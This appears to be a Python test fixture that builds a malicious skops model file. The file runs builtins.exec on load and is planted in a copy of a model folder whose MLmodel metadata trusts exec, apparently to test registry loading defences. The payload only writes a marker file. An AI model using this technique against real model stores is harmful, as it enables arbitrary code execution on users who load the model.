"""Model files an attacker with write access to the artifact store (or the right to register
a version by hand) would try: a real trained model whose skops file is replaced by one that
runs code while it loads — a node calling ``builtins.exec``, trusted by the MLmodel file."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

import yaml


def exec_on_load(source: str, *, module: str = "builtins", name: str = "exec") -> bytes:
    """A skops file whose root object is ``module.name(source)``: skops builds such nodes
    (ConstructorFromReduceNode) by calling the named type with the stored arguments."""
    schema = {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": json.dumps(source),
                    "is_json": True,
                    "__id__": 2,
                }
            ],
            "__id__": 1,
        },
        "__id__": 0,
        "protocol": 2,
        "_skops_version": "0.16.0",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return buffer.getvalue()


def hostile_copy(model_folder: Path, destination: Path, marker: Path) -> Path:
    """A copy of a real model folder whose model.skops writes ``marker`` when loaded, with
    its MLmodel trusting ``builtins.exec``."""
    shutil.copytree(model_folder, destination)
    code = f"open({str(marker)!r}, 'w').write('ran')"
    (destination / "model.skops").write_bytes(exec_on_load(code))
    meta_path = destination / "MLmodel"
    meta = yaml.safe_load(meta_path.read_text())
    meta["flavors"]["sklearn"]["skops_trusted_types"] = ["builtins.exec"]
    meta_path.write_text(yaml.safe_dump(meta))
    return destination
